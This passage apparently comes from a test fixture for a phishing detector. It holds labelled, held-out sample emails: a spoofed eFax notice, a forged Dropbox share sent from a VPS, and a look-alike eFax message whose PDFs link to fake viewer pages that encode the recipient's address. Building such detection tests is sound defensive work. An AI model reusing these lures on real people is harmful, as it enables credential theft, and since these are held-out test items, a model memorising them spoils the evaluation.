          'Fax Message [Caller-ID: 1-855-555-0130]\n\nYou have received a 3 page fax at 2025-10-22 09:40:12 PST.\n\n* The reference number for this fax is lax1_did12-1761151212-8555550130-47.\n\nPlease open the attached PDF to view your fax.\n\nThank you for using the eFax service!',
        ),
        attachment(
          'eFax_3pages_8555550130.pdf',
          'application/pdf',
          textPdf(
            ['eFax Secure Document', '3 pages - protected', 'Click VIEW FAX to open the document in your browser', 'VIEW FAX'],
            'https://efax-view-secure.com/view/?id=47&m=b2ZmaWNlQGJheXZpZXdwZWRpYXRyaWNzLmNvbQ',
          ),
        ),
      ]),
    }),
  },

  {
    name: 'Forged dropbox.com "a file was shared with you" from a VPS, the button to an unrelated domain',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    heldOut: true,
    raw: mail({
      from: 'Dropbox <no-reply@dropbox.com>',
      to: 'm.ortega@harbourlogistics.com',
      subject: 'Accounts Payable shared "Remittance_Q3.pdf" with you',
      date: 'Tue, 21 Oct 2025 09:14:02 +0000',
      messageId: '8c1e44a2b7@srv-4471.cloudvps-host.net',
      returnPath: 'www-data@srv-4471.cloudvps-host.net',
      relay: 'srv-4471.cloudvps-host.net [198.51.100.201]',
      auth: SPOOFED,
      body: document([
        'Accounts Payable shared a file with you.',
        'Remittance_Q3.pdf',
        { button: 'View file', href: 'https://remit-files-view.com/d/Remittance_Q3' },
      ]),
    }),
  },

  {
    name: 'eFax "New fax received (2 pages)" from a look-alike domain, its PDF linking to a kit with the reader\'s address',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    heldOut: true,
    raw: mail({
      from: 'eFax Corporate <noreply@securefax-efax.net>',
      to: 'reception@westbrookdental.com',
      subject: 'New fax received - 2 pages',
      date: 'Thu, 13 Nov 2025 15:20:09 +0000',
      messageId: '20251113152009.77b2@securefax-efax.net',
      dkim: ['securefax-efax.net:default'],
      relay: 'out.securefax-efax.net [198.51.100.177]',
      auth: THROWAWAY,
      body: multipart('mixed', [
        plain('You have received a new fax.\n\nPages: 2\nSender ID: +1 415 555 0123\n\nThe document is attached as a secure PDF.'),
        attachment(
          'Fax_2pages.pdf',
          'application/pdf',
          textPdf(['eFax Secure Document', '2 pages', 'VIEW FAX'], 'https://fax-doc-viewer.com/open?r=cmVjZXB0aW9uQHdlc3Ricm9va2RlbnRhbC5jb20'),
        ),
      ]),
    }),
  },
];
